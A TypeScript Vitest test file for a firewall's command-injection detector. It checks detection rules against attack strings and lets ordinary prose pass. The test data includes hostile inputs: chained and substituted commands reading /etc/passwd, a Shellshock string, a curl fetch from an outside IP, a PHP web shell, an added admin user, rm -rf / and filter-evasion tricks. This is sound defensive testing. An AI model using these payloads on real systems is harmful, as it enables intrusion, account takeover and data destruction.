import { describe, expect, it } from 'vitest';

import { detectCommand } from '../../../src/validation/waf/command.js';
import type { DetectContext } from '../../../src/validation/waf/types.js';

const level1: DetectContext = { paranoia: 1, strict: false };
const ids = (input: string, context: DetectContext = level1): string[] =>
  detectCommand(input, context).map((hit) => hit.ruleId);

describe('detectCommand', () => {
  it.each([
    ['; id', 'command-003-chained-command'],
    ['a|id|', 'command-003-chained-command'],
    ['x && cat /etc/passwd', 'command-003-chained-command'],
    ['& ping -n 30 127.0.0.1 &', 'command-003-chained-command'],
    ['| net user hacker Password1 /ADD', 'command-003-chained-command'],
    ['foo\nwhoami', 'command-003-chained-command'],
    ['`id`', 'command-004-substitution'],
    ['$(curl http://198.51.100.7/x)', 'command-004-substitution'],
    ['() { :;}; /bin/bash -c "id"', 'command-001-shellshock'],
    ['cat${IFS}/etc/passwd', 'command-002-ifs'],
    ['cat /etc/passwd', 'command-005-command-line'],
    ['C:\\Windows\\System32\\cmd.exe /c dir', 'command-005-command-line'],
    ["system('id')", 'command-011-code-execution'],
    ['<?php system($_GET["c"]); ?>', 'command-011-code-execution'],
  ])('detects %j at paranoia 1', (input, ruleId) => {
    expect(ids(input)).toContain(ruleId);
  });

  it.each([
    ['/???/??t /???/p??s??', 'command-013-glob-path'],
    [';{ls,-la}', 'command-003-chained-command'],
    [';who$@ami', 'command-003-chained-command'],
    ['; reg add HKLM\\Software\\x /v y /d 0 /f', 'command-003-chained-command'],
    ['a; python -c \'import os; os.system("id")\'', 'command-003-chained-command'],
  ])('detects the evasion %j', (input, ruleId) => {
    expect(ids(input)).toContain(ruleId);
  });

  it('undoes quoting tricks in the command name', () => {
    expect(ids(";c'a't /etc/passwd")).toContain('command-003-chained-command');
    expect(ids(';w\\hoami')).toContain('command-003-chained-command');
  });

  it('gives every hit the command family', () => {
    for (const hit of detectCommand('; id', level1)) expect(hit.family).toBe('command');
  });

  it.each([
    'rm -rf is dangerous, do not paste it in a terminal',
    "Ben & Jerry's",
    'The cat sat on the mat; the dog ate the homework.',
    'Update: the order was shipped; see tracking below.',
    'if (a && b) { return c; }',
    'Use the -v flag for verbose output, e.g. tool -v --dry-run',
    'Markdown: **bold**, _italic_, `code`, [link](https://example.com)',
    'Sleep well and wake up refreshed',
    'Exec summary attached',
    'I bought milk; cat food is next',
    'Call me tomorrow; ping me if needed',
    'Big party; bash starts at 9',
    'I know Java; python too',
    'see above; id number is 42',
    '| type | id | when |',
    'the gateway listens on `127.0.0.1:8080`; set `BULWARK_PORT` to change it',
  ])('passes prose %j at paranoia 1', (input) => {
    expect(ids(input)).toEqual([]);
  });

  it.each([
    'x; cat /etc/passwd now',
    '127.0.0.1; id #',
    '127.0.0.1 && rm -rf /tmp/x y',
    'x; rm -rf / into',
    'x; cat /etc/passwd',
    '127.0.0.1; id',
    '127.0.0.1 && rm -rf /tmp/x',
    'x; rm -rf /',
    '127.0.0.1; cat /etc/passwd # trailing comment',
    '127.0.0.1; reboot',
    '; shutdown',
  ])('detects %j, with or without a trailing word or comment', (input) => {
    expect(ids(input)).toContain('command-003-chained-command');
  });

  it.each([
    'cherries & more',
    'apples; more',
    'Went to the folder; ls showed nothing',
    'Tom & Jerry',
    'R&D; QA',
    'Q&A: why; how',
    'see docs; then ask',
    'salt & pepper; to taste',
    'The power went out & shutdown',
    'rooms; find 3 more',
  ])('passes the everyday value %j at paranoia 1', (input) => {
    expect(ids(input)).toEqual([]);
  });

  it('lone command word after operator', () => {
    const level2: DetectContext = { paranoia: 2, strict: false };
    expect(ids('apples; more', level2)).toContain('command-006-lone-command');
    expect(ids('cherries & more', level2)).toContain('command-006-lone-command');
    expect(ids('Went to the folder; ls showed nothing', level2)).toContain(
      'command-006-lone-command',
    );
  });

  it('Markdown code spans read as text', () => {
    const ticket = 'Use `grep -r "TODO" src/` to find them';

    expect(ids(ticket)).toEqual([]);
    expect(ids('The `exec` function is deprecated')).toEqual([]);
    expect(ids('Keys (`dir`, `type`) are required')).toEqual([]);
    expect(ids('Pass `params` (route parameters) too')).toEqual([]);
    expect(ids(ticket, { paranoia: 2, strict: false })).toContain('command-012-code-span');
    // A whole command line in a code span is what a shell would run.
    expect(ids('Never run `rm -rf /` on a server.')).toContain('command-004-substitution');
  });

  it('reads a backtick after an operator as substitution', () => {
    expect(ids('$(`cat /etc/passwd`)')).toContain('command-004-substitution');
    expect(ids('x=`whoami`')).toContain('command-004-substitution');
  });

  it('command word in prose at paranoia 2', () => {
    expect(ids('I bought milk; cat food is next', { paranoia: 2, strict: false })).toContain(
      'command-006-lone-command',
    );
  });

  it('shell argument field rejects metacharacters', () => {
    expect(ids('report; final', { paranoia: 1, strict: true })).toContain(
      'command-010-sink-metacharacter',
    );
    expect(ids('name=$HOME', { paranoia: 1, strict: true })).toContain(
      'command-010-sink-metacharacter',
    );
    expect(ids('report-final.txt', { paranoia: 1, strict: true })).toEqual([]);
    expect(ids('$5 off', { paranoia: 1, strict: true })).toEqual([]);
  });
});
